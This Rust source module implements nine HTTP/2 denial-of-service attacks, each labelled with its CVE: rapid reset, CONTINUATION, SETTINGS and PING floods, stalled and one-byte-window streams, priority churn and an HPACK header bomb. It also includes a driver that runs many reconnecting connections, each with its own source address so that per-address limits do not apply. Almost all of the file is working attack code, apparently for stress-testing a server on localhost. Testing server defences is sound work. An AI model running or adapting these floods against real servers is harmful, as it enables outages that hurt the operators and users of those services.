//! Hostile clients of HTTP/2: many connections that cause work which costs a client almost nothing.
//!
//! Each connection acts once per second. A connection that the server has closed is opened again, but not more than
//! some of them at a time, so that the attack is not one of connections.

use std::io::{ErrorKind, Read, Write};
use std::net::{IpAddr, Ipv4Addr, SocketAddr, TcpStream};
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use crate::raw_http2::{Frames, block, code, flag, get, indexed_literal, kind, setting};
use crate::raw_tls;

/// Frames that a connection sends at once. Servers have to bound what a connection sends every second.
const BURST: u32 = 150;
/// Streams that a connection opens at once. Servers permit 100 or more.
const STREAMS: u32 = 100;
/// Field sections of a burst that is made of them.
const BOMBS: u32 = 5;
/// Length of the value to which a section refers, which fits into a table of 4,096 bytes, and the number of references.
const BOMB_VALUE: usize = 3900;
const BOMB_REFERENCES: usize = 8000;
/// Reference to the newest field of the dynamic table (RFC 7541 6.1), whose index is 62.
const NEWEST: u8 = 0x80 | 62;
/// A second of the attack is divided into steps.
const STEPS: usize = 20;
const STEP: Duration = Duration::from_millis(50);
/// Most connections that are opened in a step, after the first second.
const OPENED_PER_STEP: usize = 10;
/// Host of all requests.
const HOST: &str = "localhost";

/// A kind of attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    /// Requests that are cancelled at once (CVE-2023-44487).
    RapidReset,
    /// A field section that never ends (CVE-2024-27316).
    Continuation,
    /// DATA without content (CVE-2019-9518).
    EmptyData,
    /// Settings (CVE-2019-9515).
    Settings,
    /// Pings (CVE-2019-9512).
    Ping,
    /// Windows of one byte, which are opened byte by byte (CVE-2019-9511).
    TinyWindows,
    /// Responses for which a window never opens (CVE-2019-9517).
    StalledStreams,
    /// Priorities that change all the time (CVE-2019-9513), of RFC 7540 and RFC 9218.
    Priorities,
    /// Short field sections that decode to 31 MB (CVE-2016-6581).
    HeaderBomb,
}

impl Attack {
    /// All attacks.
    pub const ALL: [Attack; 9] = [
        Attack::RapidReset,
        Attack::Continuation,
        Attack::EmptyData,
        Attack::Settings,
        Attack::Ping,
        Attack::TinyWindows,
        Attack::StalledStreams,
        Attack::Priorities,
        Attack::HeaderBomb,
    ];

    /// Returns the name for tables.
    pub fn name(self) -> &'static str {
        match self {
            Attack::RapidReset => "rapid reset",
            Attack::Continuation => "CONTINUATION flood",
            Attack::EmptyData => "empty DATA",
            Attack::Settings => "SETTINGS flood",
            Attack::Ping => "PING flood",
            Attack::TinyWindows => "windows of 1 byte",
            Attack::StalledStreams => "stalled streams",
            Attack::Priorities => "priority churn",
            Attack::HeaderBomb => "HPACK bomb",
        }
    }

    /// Adds the beginning of a connection: the preface, settings, and what the first burst needs.
    fn begin(self, frames: &mut Frames, path: &str, streams: &mut Streams) {
        let window = match self {
            Attack::TinyWindows => 1,
            Attack::StalledStreams => 0,
            _ => 65_535,
        };
        let settings = [
            (setting::ENABLE_PUSH, 0),
            (setting::INITIAL_WINDOW_SIZE, window),
        ];
        frames.preface().settings(&settings);
        match self {
            Attack::TinyWindows | Attack::StalledStreams => {
                for _ in 0..STREAMS {
                    frames.headers(streams.open(), &get(HOST, path), true);
                }
            }
            Attack::EmptyData => {
                frames.headers(streams.open(), &post(path), false);
            }
            Attack::Continuation => {
                let block = block(&get(HOST, path));
                frames.frame(kind::HEADERS, flag::END_STREAM, streams.open(), &block);
            }
            _ => {}
        }
    }

    /// Adds one burst.
    fn act(self, frames: &mut Frames, path: &str, streams: &mut Streams) {
        match self {
            Attack::RapidReset => {
                for _ in 0..BURST {
                    let stream = streams.open();
                    frames.headers(stream, &get(HOST, path), true);
                    frames.reset(stream, code::CANCEL);
                }
            }
            Attack::Continuation => {
                let field = block(&[("x-a", "b")]);
                for _ in 0..BURST {
                    frames.frame(kind::CONTINUATION, 0, streams.last(), &field);
                }
            }
            Attack::EmptyData => {
                for _ in 0..BURST {
                    frames.data(streams.last(), b"", false);
                }
            }
            Attack::Settings => {
                for number in 0..BURST {
                    let window = 65_535 - number % 2;
                    frames.settings(&[(setting::INITIAL_WINDOW_SIZE, window)]);
                }
            }
            Attack::Ping => {
                for number in 0..BURST {
                    frames.ping(u64::from(number).to_be_bytes());
                }
            }
            Attack::TinyWindows => {
                for stream in streams.opened() {
                    frames.window_update(stream, 1);
                }
            }
            // One ping shows that the client is there.
            Attack::StalledStreams => {
                frames.ping([0; 8]);
            }
            Attack::Priorities => {
                for number in 0..BURST / 2 {
                    let (stream, urgency) = (2 * (number % STREAMS) + 1, number % 8);
                    frames.priority(stream, stream + 2, number as u8);
                    frames.priority_update(stream, &format!("u={urgency}"));
                }
            }
            Attack::HeaderBomb => {
                for _ in 0..BOMBS {
                    let section = bomb(path, streams.last() == 0);
                    frames.header_block(streams.open(), &section, true);
                }
            }
        }
    }
}

/// The streams that a connection has opened.
#[derive(Default)]
struct Streams {
    count: u32,
}

impl Streams {
    /// Opens the next stream, and returns its number.
    fn open(&mut self) -> u32 {
        self.count += 1;
        self.last()
    }

    /// Returns the number of the last stream, or 0.
    fn last(&self) -> u32 {
        (2 * self.count).saturating_sub(1)
    }

    fn opened(&self) -> impl Iterator<Item = u32> {
        (0..self.count).map(|number| 2 * number + 1)
    }
}

fn post(path: &str) -> [(&str, &str); 4] {
    let mut fields = get(HOST, path);
    fields[0].1 = "POST";
    fields
}

/// Returns the section of a request that refers to one long field many times. `first`: whether the section has to
/// insert the field into the table.
fn bomb(path: &str, first: bool) -> Vec<u8> {
    let mut section = block(&get(HOST, path));
    let references = match first {
        true => {
            indexed_literal(&mut section, b"x", &[b'a'; BOMB_VALUE]);
            BOMB_REFERENCES
        }
        false => BOMB_REFERENCES + 1,
    };
    section.resize(section.len() + references, NEWEST);
    section
}

/// A connection of an attacker.
struct Attacker {
    socket: TcpStream,
    streams: Streams,
    /// Bytes that the socket has not taken yet.
    unsent: Vec<u8>,
}

impl Attacker {
    fn open(address: SocketAddr, source: IpAddr) -> Option<Attacker> {
        let socket = raw_tls::connect(address, Some(source)).ok()?;
        socket.set_nonblocking(true).ok()?;
        Some(Attacker {
            socket,
            streams: Streams::default(),
            unsent: Vec::new(),
        })
    }

    /// Discards what has arrived, and returns whether the server has left the connection open.
    fn is_open(&mut self) -> bool {
        let mut buffer = [0; 16 << 10];
        loop {
            match self.socket.read(&mut buffer) {
                Ok(0) => return false,
                Ok(_) => {}
                Err(error) if error.kind() == ErrorKind::Interrupted => {}
                Err(error) => return error.kind() == ErrorKind::WouldBlock,
            }
        }
    }

    /// Sends what the socket takes now. Returns false if the connection has ended.
    fn flush(&mut self) -> bool {
        while !self.unsent.is_empty() {
            match self.socket.write(&self.unsent) {
                Ok(count) => drop(self.unsent.drain(..count)),
                Err(error) if error.kind() == ErrorKind::Interrupted => {}
                Err(error) => return error.kind() == ErrorKind::WouldBlock,
            }
        }
        true
    }
}

/// Counts of the actions of a crowd.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Tally {
    /// Connections opened.
    pub opened: u64,
    /// Connections that the server closed, or that broke.
    pub closed: u64,
    /// Bursts sent.
    pub bursts: u64,
}

/// Many connections that make the same attack.
pub struct Crowd {
    address: SocketAddr,
    attack: Attack,
    path: String,
    attackers: Vec<Option<Attacker>>,
    tally: Tally,
}

impl Crowd {
    /// Prepares an attack with this many connections, in clear text. `path`: path of requests.
    pub fn new(address: SocketAddr, attack: Attack, path: &str, connections: usize) -> Crowd {
        Crowd {
            address,
            attack,
            path: path.to_owned(),
            attackers: (0..connections).map(|_| None).collect(),
            tally: Tally::default(),
        }
    }

    /// Attacks until `stop` is set. Returns what was done.
    pub fn run(&mut self, stop: &AtomicBool) -> Tally {
        let mut step = 0;
        while !stop.load(Ordering::Relaxed) {
            let began = Instant::now();
            self.step(step);
            step += 1;
            std::thread::sleep(STEP.saturating_sub(began.elapsed()));
        }
        self.tally
    }

    /// Lets one of `STEPS` parts of the connections act.
    fn step(&mut self, step: usize) {
        // In the first round, all connections are opened.
        let mut left = match step < STEPS {
            true => self.attackers.len(),
            false => OPENED_PER_STEP,
        };
        for index in (step % STEPS..self.attackers.len()).step_by(STEPS) {
            self.act(index, &mut left);
        }
    }

    fn act(&mut self, index: usize, left: &mut usize) {
        if let Some(attacker) = &mut self.attackers[index]
            && !attacker.is_open()
        {
            self.attackers[index] = None;
            self.tally.closed += 1;
        }
        let mut frames = Frames::new();
        if self.attackers[index].is_none() {
            self.attackers[index] = self.open(left);
            if let Some(attacker) = &mut self.attackers[index] {
                self.attack
                    .begin(&mut frames, &self.path, &mut attacker.streams);
            }
        }
        let Some(attacker) = &mut self.attackers[index] else {
            return;
        };
        // A burst that the server has not taken yet is not followed by another one.
        if attacker.unsent.is_empty() {
            self.attack
                .act(&mut frames, &self.path, &mut attacker.streams);
            attacker.unsent.extend_from_slice(frames.bytes());
            self.tally.bursts += 1;
        }
        if !attacker.flush() {
            self.attackers[index] = None;
            self.tally.closed += 1;
        }
    }

    fn open(&mut self, left: &mut usize) -> Option<Attacker> {
        *left = left.checked_sub(1)?;
        // Each connection has an address of its own, so that limits per address don't matter.
        let [.., a, b, c] = (self.tally.opened + 1).to_be_bytes();
        let source = IpAddr::from(Ipv4Addr::new(127, a.wrapping_add(64), b, c.max(1)));
        self.tally.opened += 1;
        Attacker::open(self.address, source)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::raw_http2::PREFACE;

    /// Returns the types and streams of frames.
    fn list(frames: &Frames) -> Vec<(u8, u32)> {
        let mut rest = frames.bytes();
        rest = rest.strip_prefix(PREFACE).unwrap_or(rest);
        let mut list = Vec::new();
        while let Some((header, after)) = rest.split_first_chunk::<9>() {
            let [a, b, c, kind, _, stream @ ..] = *header;
            let length = u32::from_be_bytes([0, a, b, c]) as usize;
            assert!(length <= 16 << 10, "a server accepts frames of this length");
            list.push((kind, u32::from_be_bytes(stream)));
            rest = &after[length..];
        }
        assert!(rest.is_empty(), "the last frame is complete");
        list
    }

    #[test]
    fn every_attack_consists_of_frames_that_a_server_may_accept() {
        for attack in Attack::ALL {
            let (mut frames, mut streams) = (Frames::new(), Streams::default());
            attack.begin(&mut frames, "/", &mut streams);
            assert!(frames.bytes().starts_with(PREFACE), "{attack:?}");
            assert_eq!(list(&frames)[0].0, kind::SETTINGS, "{attack:?}");
            for _ in 0..2 {
                let mut burst = Frames::new();
                attack.act(&mut burst, "/", &mut streams);
                assert!(!list(&burst).is_empty(), "{attack:?}");
            }
        }
    }

    #[test]
    fn a_rapid_reset_cancels_each_request() {
        let (mut frames, mut streams) = (Frames::new(), Streams::default());
        Attack::RapidReset.act(&mut frames, "/", &mut streams);
        let list = list(&frames);
        assert_eq!(list.len(), 2 * BURST as usize);
        assert_eq!(list[..4], [(1, 1), (3, 1), (1, 3), (3, 3)]);
    }
}
